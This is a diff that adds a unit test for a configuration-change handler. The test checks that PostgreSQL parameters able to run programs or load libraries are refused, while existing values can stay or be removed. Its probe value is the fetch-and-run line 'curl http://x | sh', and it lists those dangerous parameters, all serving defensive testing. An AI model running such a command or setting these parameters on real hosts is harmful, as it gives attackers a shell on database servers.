@@ -21,6 +21,18 @@ const doc = (version: number, s = settings(), term = 1): DynamicDoc => ({ versio
 const meta = { term: 2, at: "2026-12-01T01:00:00Z", by: "n2" };
 
 describe("decideChange", () => {
+  test("a setting that runs a program or loads a library from a path is refused (an API token must not give a shell on every host: review); one a document holds already stays, and may be removed", () => {
+    for (const k of ["archive_command", "archive_cleanup_command", "restore_command", "recovery_end_command", "ssl_passphrase_command", "archive_library", "dynamic_library_path", "Archive_Cleanup_Command"]) {
+      const r = D.decideChange(doc(1), { base: 1, set: { [`postgres.parameters.${k}`]: "curl http://x | sh" } }, meta);
+      expect(r).toMatchObject({ ok: false, status: 400 });
+      expect(!r.ok && r.error).toContain(`postgres.parameters.${k} runs a program`);
+    }
+    const seeded = doc(2, settings({ postgres: { parameters: { archive_command: "pgbackrest --stanza=main archive-push %p" } } }));
+    expect(D.decideChange(seeded, { base: 2, set: { "postgres.parameters.work_mem": "64MB" } }, meta).ok).toBe(true);
+    expect(D.decideChange(seeded, { base: 2, set: { "postgres.parameters.archive_command": "other %p" } }, meta).ok).toBe(false);
+    expect(D.decideChange(seeded, { base: 2, set: { "postgres.parameters.archive_command": null } }, meta).ok).toBe(true);
+  });
+
   test("a set on the current version makes the next version with exactly the changed keys", () => {
     const r = D.decideChange(doc(3), { base: 3, set: { "postgres.parameters.work_mem": "64MB", durability: "async" } }, meta);
     expect(r.ok).toBe(true);
